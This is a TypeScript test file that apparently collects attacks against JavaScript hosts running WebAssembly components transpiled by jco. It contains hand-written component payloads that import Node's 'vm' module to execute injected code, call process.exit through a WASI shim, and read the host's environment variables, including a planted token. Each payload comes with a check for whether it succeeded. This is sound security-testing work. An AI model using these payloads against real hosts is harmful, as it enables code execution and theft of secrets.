// jco's default output is an ES module: import names become module specifiers, WASI is a shim.
import { type Attack, attack } from "../attack.ts";
import { printedByNaiveProcess } from "../naive-process.ts";

const CODE = "globalThis.PWNED=1";

/** Memory of one page at 0 to 1023 for the component, from 1024 on for `realloc`, which only grows. */
const MEMORY = `(core module $mem
    (memory (export "m") 1)
    (data (i32.const 0) "${CODE}")
    (global $next (mut i32) (i32.const 1024))
    (func (export "r") (param i32 i32 i32 i32) (result i32)
      global.get $next
      (global.set $next (i32.and (i32.add (i32.add (global.get $next) (local.get 3)) (i32.const 7))
        (i32.const -8)))))
  (core instance $mi (instantiate $mem))
  (alias core export $mi "m" (core memory $memory))
  (alias core export $mi "r" (core func $realloc))`;

const RUN_IN_THIS_CONTEXT = `(component
  (import "vm" (instance $vm (export "run-in-this-context" (func (param "code" string) (result u32)))))
  (alias export $vm "run-in-this-context" (func $f))
  ${MEMORY}
  (core func $lowered (canon lower (func $f) (memory $memory)))
  (core module $m
    (import "e" "f" (func $f (param i32 i32) (result i32)))
    (func (export "run") (result i32) i32.const 0 i32.const ${CODE.length} call $f))
  (core instance $i (instantiate $m (with "e" (instance (export "f" (func $lowered))))))
  (alias core export $i "run" (core func $run))
  (func (export "run") (result u32) (canon lift (core func $run))))`;

const EXIT = `(component
  (import "wasi:cli/exit@0.2.0" (instance $cli (export "exit" (func (param "status" (result))))))
  (alias export $cli "exit" (func $f))
  (core func $lowered (canon lower (func $f)))
  (core module $m
    (import "e" "f" (func $f (param i32)))
    (func (export "run") i32.const 0 call $f))
  (core instance $i (instantiate $m (with "e" (instance (export "f" (func $lowered))))))
  (alias core export $i "run" (core func $run))
  (func (export "run") (canon lift (core func $run))))`;

const ENVIRONMENT = `(component
  (import "wasi:cli/environment@0.2.0" (instance $cli
    (export "get-environment" (func (result (list (tuple string string)))))))
  (alias export $cli "get-environment" (func $f))
  ${MEMORY}
  (core func $lowered (canon lower (func $f) (memory $memory) (realloc $realloc)))
  (core module $m
    (import "e" "f" (func $f (param i32)))
    (func (export "run") (result i32) i32.const 64 call $f i32.const 64))
  (core instance $i (instantiate $m (with "e" (instance (export "f" (func $lowered))))))
  (alias core export $i "run" (core func $run))
  (func (export "run") (result (list (tuple string string)))
    (canon lift (core func $run) (memory $memory))))`;

export const nodeModuleAttacks: readonly Attack[] = [
  attack(
    "built-in module as an import",
    "the instance name as a module specifier: import { runInThisContext } from 'vm'",
    RUN_IN_THIS_CONTEXT,
    async (bytes) => (await printedByNaiveProcess(bytes)).includes('"pwned":true'),
  ),
  attack(
    "exit of the host",
    "wasi:cli/exit of preview2-shim is process.exit",
    EXIT,
    async (bytes) => (await printedByNaiveProcess(bytes)) === "",
  ),
  attack(
    "environment of the host",
    "wasi:cli/environment of preview2-shim is process.env",
    ENVIRONMENT,
    async (bytes) =>
      (await printedByNaiveProcess(bytes, { TOKEN: "of-the-host" })).includes("of-the-host"),
  ),
];
